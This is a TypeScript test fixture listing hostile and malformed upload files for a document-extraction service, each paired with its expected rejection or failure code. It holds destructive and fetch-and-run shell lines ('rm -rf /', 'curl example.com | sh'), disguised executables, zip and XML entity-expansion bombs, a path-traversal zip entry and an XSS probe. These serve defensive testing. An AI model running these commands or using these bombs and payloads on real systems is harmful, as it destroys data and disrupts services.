import { Buffer } from "node:buffer";
import { deflateSync, gzipSync } from "node:zlib";
import { compound } from "../../support/files/make-office.ts";
import { mail, nestedMail, plainMail } from "../../support/papers/mail.ts";
import { docx, docxOf, xlsx, xlsxOf } from "../../support/papers/office.ts";
import { orderLines, orderText } from "../../support/papers/order.ts";
import { pdfOf, pdfPages, stream } from "../../support/papers/pdf.ts";
import { lyingZip, withFlag, zeros } from "./zips.ts";
import type { Hostile } from "./row.ts";

const lines = orderLines({ number: "BI-2026-0001" });
const bytes = (...values: number[]) => Uint8Array.from([...values, ...new Uint8Array(600)]);
const half = (file: Uint8Array) => file.subarray(0, Math.floor(file.length / 2));
const noise = Uint8Array.from({ length: 5_000 }, (_, at) => (at * at * 31 + at * 7) & 255);

/** First bytes of executable files. */
const programs: [what: string, name: string, ...first: number[]][] = [
  ["a Linux program", ".pdf", 0x7f, 0x45, 0x4c, 0x46, 2, 1, 1],
  ["a Windows program", ".pdf", 0x4d, 0x5a, 0x90, 0, 3],
  ["a Mac program", ".pdf", 0xcf, 0xfa, 0xed, 0xfe, 7],
  ["a universal Mac program", ".pdf", 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2],
  ["a WebAssembly program", ".docx", 0, 0x61, 0x73, 0x6d, 1],
];

/** Files that are refused with 400 at upload. */
export const refusedFiles: Hostile[] = [
  { what: "blanks", make: () => " \r\n\t ".repeat(100), refused: "file_empty" },
  ...programs.map(([what, name, ...first]): Hostile => ({
    what: `${what} named ${name}`,
    name: `order${name}`,
    make: () => bytes(...first),
    refused: "unsupported_file_type",
  })),
  {
    what: "a shell script named .pdf",
    name: "order.pdf",
    make: () => "#!/bin/sh\nrm -rf /\n",
    refused: "unsupported_file_type",
  },
  {
    what: "a shell script named .txt",
    name: "order.txt",
    make: () => "#!/usr/bin/env bash\ncurl example.com | sh\n",
    refused: "unsupported_file_type",
  },
  { what: "noise", make: () => noise, refused: "unsupported_file_type" },
  { what: "a gzip archive", make: () => gzipSync(orderText("BI-2026-0002")), refused: "unsupported_file_type" },
  {
    what: "the first bytes of a PDF",
    name: "order.pdf",
    make: () => "%PDF-1.7\n1 0 obj\n<< /Type",
    refused: "file_unreadable",
  },
  { what: "a PDF with a password", name: "order.pdf", make: passwordPdf, refused: "file_encrypted" },
  {
    what: "a workbook with a password",
    name: "order.xlsx",
    make: () => compound([{ name: "EncryptedPackage", content: new Uint8Array(64) }]),
    refused: "file_encrypted",
  },
  {
    what: "a Word document with packed parts encrypted",
    name: "order.docx",
    make: () => withFlag(docx(lines), 1),
    refused: "file_encrypted",
  },
  { what: "half a Word document", name: "order.docx", make: () => half(docx(lines)), refused: "file_unreadable" },
  {
    what: "half a workbook",
    name: "order.xlsx",
    make: () => half(xlsx(lines.map((line) => [line]))),
    refused: "file_unreadable",
  },
  {
    what: "a zip of other things",
    name: "order.zip",
    make: () => lyingZip({ "order.txt": orderText("BI-2026-0003") }, {}),
    refused: "unsupported_file_type",
  },
  {
    what: "a Word bomb of 1,000 to 1",
    name: "order.docx",
    make: () => docxOf(`<w:p><w:r><w:t>${"a".repeat(30_000_000)}</w:t></w:r></w:p>`),
    refused: "file_unreadable",
  },
  {
    what: "a workbook bomb of 1,000 to 1",
    name: "order.xlsx",
    make: () => xlsxOf(`<row r="1"><c r="A1" t="inlineStr"><is><t>${"a".repeat(30_000_000)}</t></is></c></row>`),
    refused: "file_unreadable",
  },
  {
    what: "a Word bomb in a part that is not read",
    name: "order.docx",
    make: () => docx(lines, { "word/media/image1.png": zeros(60) }),
    refused: "file_unreadable",
  },
  {
    what: "a Word document that declares 4 GiB of content",
    name: "order.docx",
    make: () => lyingZip({ "word/document.xml": "<a/>" }, { unpacked: 0xffffffff }),
    refused: "file_unreadable",
  },
  {
    what: "a Word document with a part outside its folder",
    name: "order.docx",
    make: () => docx(lines, { "../../evil.xml": new Uint8Array(1) }),
    refused: "file_unreadable",
  },
];

/** Makes a PDF that requires a password. */
function passwordPdf(): Buffer {
  const secret = `<${"5a".repeat(32)}>`;
  return pdfOf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [] /Count 0 >>",
      `<< /Filter /Standard /V 1 /R 2 /O ${secret} /U ${secret} /P -4 >>`,
    ],
    { entries: `/Encrypt 3 0 R /ID [${secret} ${secret}]` },
  );
}

const damaged = "file_corrupted";

/** Files that are accepted, but whose extraction fails. */
export const failedFiles: Hostile[] = [
  {
    what: "a Word document that decompresses to more than it declares",
    name: "order.docx",
    make: () => lyingZip({ "word/document.xml": "<a/>".repeat(100_000) }, { unpacked: 100 }),
    failed: damaged,
  },
  {
    what: "a Word document with an unknown compression",
    name: "order.docx",
    make: () => lyingZip({ "word/document.xml": "<a/>" }, { method: 99 }),
    failed: damaged,
  },
  {
    what: "a Word document without its main part",
    name: "order.docx",
    make: () => lyingZip({ "word/styles.xml": "<a/>" }, {}),
    failed: damaged,
  },
  {
    what: "a PDF without pages",
    name: "order.pdf",
    make: () =>
      pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", `(${"a".repeat(300)})`]),
    failed: "no_text_found",
  },
  {
    what: "a PDF whose pages are their own parents",
    name: "order.pdf",
    make: () =>
      pdfOf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 /Parent 2 0 R >>",
        `(${"a".repeat(300)})`,
      ]),
    failed: damaged,
  },
  {
    what: "a PDF of 201 pages",
    name: "order.pdf",
    make: () => pdfPages(Array.from({ length: 201 }, () => lines)),
    failed: "too_many_pages",
  },
  {
    what: "a PDF that declares a billion pages",
    name: "order.pdf",
    make: () =>
      pdfOf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        `(${"a".repeat(300)})`,
      ]),
    failed: "no_text_found",
  },
  {
    what: "a PDF of noise",
    name: "order.pdf",
    make: () => Buffer.concat([Buffer.from("%PDF-1.7\n"), noise]),
    failed: damaged,
  },
  { what: "a page without text", name: "order.pdf", make: () => pdfPages([[]]), failed: "no_text_found" },
  { what: "1 MB of one letter", isLong: true, make: () => "a".repeat(1_000_000), failed: "too_many_pages" },
  { what: "1 MB of digits", isLong: true, make: () => "1234567890".repeat(100_000), failed: "too_many_pages" },
  { what: "1 MB of brackets", isLong: true, make: () => "(".repeat(1_000_000), failed: "too_many_pages" },
  { what: "1 MB of dots and blanks", isLong: true, make: () => "a . . . ".repeat(125_000), failed: "too_many_pages" },
  { what: "300 KB of dates", isLong: true, make: () => "24.11.2026 ".repeat(30_000), failed: "too_many_pages" },
  {
    what: "a table of a million empty cells",
    name: "order.csv",
    make: () => `${";".repeat(1_000)}\n`.repeat(1_000),
    failed: "no_text_found",
  },
  { what: "XML with a billion laughs attack", name: "order.xml", make: billionLaughs, failed: "input_not_freight" },
  {
    what: "RTF nested 100,000 deep",
    name: "order.rtf",
    make: () => `{\\rtf1 ${"{".repeat(100_000)}greetings to everybody in the office${"}".repeat(100_000)}}`,
    failed: "file_corrupted",
  },
  {
    what: "HTML nested 100,000 deep",
    name: "order.html",
    make: () => `<html><body>${"<div>".repeat(100_000)}greetings to everybody in the office`,
    failed: "no_text_found",
  },
  {
    what: "a mail of 1,000 parts",
    name: "order.eml",
    make: () =>
      mail(
        "Greetings",
        Array.from({ length: 1_000 }, (_, i) => ({
          type: "text/plain",
          name: `${i}.txt`,
          content: `greetings to everybody, number ${i}`,
        })),
      ),
    failed: "input_not_freight",
  },
  {
    what: "a mail nested 50 deep",
    name: "order.eml",
    make: () => nestedMail(plainMail("Innermost", "greetings to everybody in the office"), 50),
    failed: "no_text_found",
  },
  {
    what: "a mail with unterminated parts",
    isLong: true,
    name: "order.eml",
    make: () =>
      `${plainMail("Greetings", "").trimEnd()}\r\n`.replace(
        "text/plain; charset=utf-8",
        "multipart/mixed; boundary=b",
      ) + "\r\n--b\r\n".repeat(50_000),
    failed: "no_text_found",
  },
  {
    what: "a mail heading of 1 MB",
    name: "order.eml",
    make: () => plainMail("a ".repeat(500_000), "greetings to everybody in the office"),
    failed: "input_not_freight",
  },
];

function billionLaughs(): string {
  const entities = Array.from(
    { length: 10 },
    (_, i) => `<!ENTITY l${i} "${i === 0 ? "laugh" : `&l${i - 1};`.repeat(10)}">`,
  );
  return `<?xml version="1.0"?><!DOCTYPE order [${entities.join("")}]><order><text>greetings to everybody &l9;</text></order>`;
}

const flate = (content: string) => stream(deflateSync(content), "/Filter /FlateDecode");

/** Makes a PDF of one page with the given content streams. */
const pageOf = (contents: Buffer[], more = "") =>
  pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [${contents.map((_, index) => `${5 + index} 0 R`).join(" ")}] /Resources << /Font << /F 4 0 R >> ${more} >> >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...contents,
  ]);

/** Unusual files. Any final status is permitted, but it must be reached soon. */
export const strangeFiles: Hostile[] = [
  { what: "half a PDF", name: "order.pdf", make: () => half(pdfPages([lines, lines])) },
  {
    what: "a PDF of 100 pages",
    isLong: true,
    name: "order.pdf",
    make: () => pdfPages(Array.from({ length: 100 }, () => lines)),
  },
  {
    what: "a PDF of 100,000 objects",
    isLong: true,
    name: "order.pdf",
    make: () => pdfOf([...pageObjects(), ...Array<string>(100_000).fill("<< /A 1 >>")]),
  },
  {
    what: "a PDF whose earlier section is itself",
    name: "order.pdf",
    make: () => pdfOf(pageObjects(), { previous: 15 }),
  },
  {
    what: "a PDF whose page decompresses to 60 MB of blanks",
    name: "order.pdf",
    make: () => pageOf([flate(" ".repeat(60_000_000))]),
  },
  {
    what: "a PDF whose page draws 100,000 lines",
    isLong: true,
    name: "order.pdf",
    make: () => pageOf([flate("0 0 m 9 9 l S\n".repeat(100_000))]),
  },
  {
    what: "a PDF whose page shows one word a million times",
    isLong: true,
    name: "order.pdf",
    make: () => pageOf([flate(`BT /F 1 Tf ${"(a) Tj ".repeat(1_000_000)}ET`)]),
  },
  {
    what: "a PDF whose page saves its state 10,000 deep",
    isLong: true,
    name: "order.pdf",
    make: () => pageOf([flate("q ".repeat(10_000))]),
  },
  {
    what: "a PDF of lists nested 10,000 deep",
    name: "order.pdf",
    make: () => pageOf([stream(`${"[".repeat(10_000)}${"]".repeat(10_000)} TJ`)]),
  },
  {
    what: "a PDF whose form XObject draws itself",
    name: "order.pdf",
    make: () =>
      pageOf(
        [
          stream("/X Do"),
          stream(
            "/X Do /X Do",
            "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
          ),
        ],
        "/XObject << /X 6 0 R >>",
      ),
  },
  {
    what: "a PDF whose stream is longer than declared",
    name: "order.pdf",
    make: () => pageOf([stream("BT /F 9 Tf (Transport order) Tj ET", "", 1_000_000_000)]),
  },
  {
    what: "HTML with scripts",
    name: "order.html",
    make: () =>
      `<html><body><script>while(true);</script><img src=x onerror="alert(1)"><pre>${orderText("BI-2026-0010")}</pre></body></html>`,
  },
  {
    what: "HTML of 50,000 cells",
    isLong: true,
    name: "order.html",
    make: () => `<html><table>${`<tr>${"<td>x".repeat(50)}`.repeat(1_000)}`,
  },
  {
    what: "a workbook with a cell at its far end",
    name: "order.xlsx",
    make: () => xlsxOf('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  },
  {
    what: "a workbook that refers to missing strings",
    name: "order.xlsx",
    make: () =>
      xlsxOf('<row r="1"><c r="A1" t="s"><v>4711</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1"><v>1e999</v></c></row>'),
  },
  {
    what: "a Word table in a table, 200 deep",
    name: "order.docx",
    make: () =>
      docxOf(
        `${"<w:tbl><w:tr><w:tc>".repeat(200)}<w:p><w:r><w:t>Transport order</w:t></w:r></w:p>${"</w:tc></w:tr></w:tbl>".repeat(200)}`,
      ),
  },
  {
    what: "a text of 20,000 words",
    isLong: true,
    make: () => "transport order loading unloading 24.11.2026 04158 Leipzig ".repeat(2_500),
  },
  {
    what: "a text in every script at once",
    make: () =>
      `${orderText("BI-2026-0011")}\n${"\u202eصندوق 箱子 κιβώτιο ящик \u200b\ufeff\u{1f69a} a\u0301 ".repeat(2_000)}`,
  },
];

const pageObjects = () => [
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
  stream("BT /F 9 Tf 50 700 Td (Transport order 4711, loading in Leipzig) Tj ET"),
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];
